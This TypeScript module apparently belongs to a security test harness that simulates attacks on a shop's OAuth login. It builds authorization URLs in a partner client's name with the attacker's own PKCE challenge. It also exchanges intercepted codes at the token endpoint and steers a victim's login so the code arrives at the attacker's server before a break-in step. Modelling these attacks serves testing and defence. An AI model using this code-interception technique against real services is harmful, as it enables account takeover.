/** Authorization codes in the attacker's hands: asking the shop for one, and exchanging one. Not: what the partner's page does with its own (browser/partner-login.ts). */
import type { Fields } from '#http/message';
import { ORIGIN, PARTNER_ORIGIN } from '../origins';
import { sha256 } from '../shop/digest';
import type { Hands } from './attack';
import { breakIn } from './break-in';
import type { Stolen } from './stolen';

/** The partner's own address for codes. */
export const CALLBACK = `${PARTNER_ORIGIN}/callback`;

/** Of the attacker's own requests for codes (RFC 7636 section 4.1). */
const VERIFIER = 'the-attackers-own-verifier-which-only-they-know';

export const FORM: Fields = [['Content-Type', 'application/x-www-form-urlencoded']];

/** The shop's login page, asked for in the partner's name with a challenge of the attacker's own. */
export const addressForCode = async (redirectUri: string): Promise<string> => {
  const query = new URLSearchParams({
    response_type: 'code',
    client_id: 'partner',
    redirect_uri: redirectUri,
    code_challenge: await sha256(VERIFIER),
    code_challenge_method: 'S256',
  });
  return `${ORIGIN}/authorize?${query.toString()}`;
};

/**
 * Exchanges a code as the partner's page would: the partner is a public client, and has no secret.
 * @param address that carries the code
 * @param isOwn the attacker asked for it, and knows its verifier
 */
export const exchangeCode = async (
  hands: Hands,
  address: string,
  redirectUri: string,
  isOwn: boolean,
): Promise<Stolen[]> => {
  const content = new URLSearchParams({
    grant_type: 'authorization_code',
    code: new URL(address).searchParams.get('code') ?? '',
    client_id: 'partner',
    redirect_uri: redirectUri,
    ...(isOwn ? { code_verifier: VERIFIER } : {}),
  });
  const response = await hands.send('POST', '/token', FORM, content.toString());
  return response.status === 200 ? hands.known.inResponse(response) : [];
};

/** The victim logs in at the address that the attacker made; a code that comes to the attacker's server lets them in. */
export const leadCodeTo = async (hands: Hands, redirectUri: string): Promise<void> => {
  const page = await hands.ownPage();
  await page.openLogin(await addressForCode(redirectUri));
  const [came] = hands.arrived();
  if (!came) return hands.note('No code arrived at the attacker’s server.');
  await breakIn(hands, await exchangeCode(hands, came.url, redirectUri, true));
};
